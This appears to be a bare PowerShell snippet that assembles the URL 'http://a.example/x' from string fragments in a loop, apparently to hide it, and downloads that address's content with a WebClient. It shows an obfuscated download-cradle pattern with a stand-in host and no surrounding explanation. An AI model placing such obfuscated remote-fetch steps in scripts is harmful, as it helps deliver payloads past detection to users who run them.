$p='http://','a.example','/x';$i=0;$o='';do{$o+=$p[$i++]}until($i -ge 3)
$wc = New-Object System.Net.WebClient
$wc.DownloadString($o)
